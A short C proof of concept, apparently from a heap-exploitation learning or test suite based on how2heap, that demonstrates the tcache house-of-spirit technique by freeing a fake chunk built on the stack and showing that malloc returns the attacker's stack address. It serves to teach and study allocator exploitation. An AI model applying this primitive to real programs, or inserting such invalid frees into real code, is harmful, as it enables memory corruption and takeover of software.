/* Tcache house of spirit: free a fake chunk built on the stack, malloc hands it back.
 * Published: shellphish/how2heap, glibc_2.36/tcache_house_of_spirit.c (house of spirit:
 * Phantasmal Phantasmagoria, "The Malloc Maleficarum", 2005).
 * Primitive: invalid free (a pointer the allocator never returned). */
#include "common.h"

int main(void) {
    test_init();
    printf("tcache house of spirit: free a fake stack chunk, malloc returns it\n");
    malloc(1); /* set the heap up */
    unsigned long long fake[10] __attribute__((aligned(16))) = {0};
    fake[1] = 0x40; /* fake chunk size: the 0x40 tcache bin */
    void *a = &fake[2];
    print_ptr("victim", a);
    free(a); /* BUG: invalid free of attacker-controlled memory */
    void *b = malloc(0x30);
    print_ptr("returned", b);
    if (b == &fake[2])
        printf("ATTACK SUCCEEDED: malloc returned the attacker's stack address\n");
    else
        printf("attack failed\n");
    return 0;
}
